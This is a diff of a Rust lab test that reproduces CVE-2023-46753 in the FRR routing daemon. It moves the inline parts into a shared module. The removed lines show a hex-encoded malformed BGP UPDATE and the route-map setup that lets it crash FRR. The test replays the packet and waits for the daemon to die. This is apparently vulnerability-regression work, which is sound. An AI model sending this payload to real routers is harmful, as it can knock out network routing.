@@ -5,15 +5,10 @@ use anyhow::{Context, Result};
 use std::fs;
 use std::time::Duration;
 use tests::lab::{Lab, Star, wait_for};
-use tests::operate;
+use tests::published::cve_2023_46753;
 use tests::replayer::Replayer;
 use tests::router::Router;
 
-/// The only prefix that FRR's route-map touches.
-const PREFIX: &str = "198.51.100.0/24";
-/// UPDATE: four unknown attributes, none of the mandatory ones, and the prefix.
-const UPDATE: &str = "ffffffffffffffffffffffffffffffff002f0200000014ff1f001000040146464646460004464646464646\
-                      18c63364";
 /// A daemon that dies of it does so at once.
 const PATIENCE: Duration = Duration::from_secs(20);
 
@@ -28,15 +23,9 @@ pub struct Outcome {
 /// Sends the UPDATE from one more neighbour, and waits for FRR's end.
 pub fn act(lab: &Lab, star: &Star, router: &mut Router) -> Result<Outcome> {
     let site = star.sites.last().context("a star without neighbours")?;
-    let policy = format!(
-        "configure terminal\nbgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit {PREFIX}\nroute-map IN permit 10\nmatch ip address prefix-list PUBLISHED\n\
-         set as-path prepend 65000\nroute-map IN permit 20\nrouter bgp 65000\naddress-family ipv4 unicast\nneighbor {} route-map IN in",
-        site.v4
-    );
     let ns = router.ns().clone();
-    operate::control(router.instance("frr")?, &ns, &policy)?;
-    let update: String = UPDATE.split_whitespace().collect();
-    let mut sender = Replayer::dial(lab, site, false, &["--raw", &update])?;
+    cve_2023_46753::prepend(router.instance("frr")?, &ns, site.v4.into())?;
+    let mut sender = Replayer::dial(lab, site, false, &["--raw", cve_2023_46753::UPDATE])?;
     sender.wait_event("session-up", PATIENCE)?;
     let frr = router.instance("frr")?;
     let real = wait_for("FRR to die of it", PATIENCE, || !frr.running()).is_ok();
